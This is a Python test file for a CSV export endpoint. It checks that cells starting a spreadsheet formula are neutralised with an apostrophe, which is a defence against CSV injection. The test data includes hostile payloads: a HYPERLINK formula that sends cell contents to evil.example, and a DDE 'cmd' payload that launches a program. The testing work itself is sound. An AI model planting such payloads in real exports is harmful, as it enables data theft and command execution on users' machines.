"""CSV exports cannot carry spreadsheet formulas (issue 10, Medium; OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from typing import Any

from geo.spreadsheet import FORMULA_TRIGGERS
from tests.conftest import LUTON, create_place, make_org


def test_text_cells_that_start_a_formula_are_neutralised_and_numbers_are_not(
        client: Any, database: Any, settings: Any) -> None:
    org = make_org(database, settings)
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"Library")',
        "address": "+1+cmd|' /C calc'!A0",
        "place_manager": "-2+3",
        "notes": "@SUM(1+1)",
        "opening_hours": None,
    }
    create_place(client, org, **{k: v for k, v in hostile.items() if v is not None})
    create_place(client, org, name="Tabbed", notes="\tTab\r\nReturn", place_manager="\r-x")
    response = client.get("/api/exports/places", params={"format": "csv"}, headers=org.headers("admin"))
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    by_name = {r["name"]: r for r in rows}
    first = by_name["'" + hostile["name"]]
    assert first["address"] == "'" + hostile["address"]
    assert first["place_manager"] == "'-2+3"
    assert first["notes"] == "'@SUM(1+1)"
    assert by_name["Tabbed"]["notes"][:1] not in FORMULA_TRIGGERS
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for key, cell in row.items() if key != "longitude")
        assert float(row["longitude"]) == LUTON[0]  # a negative number stays a number
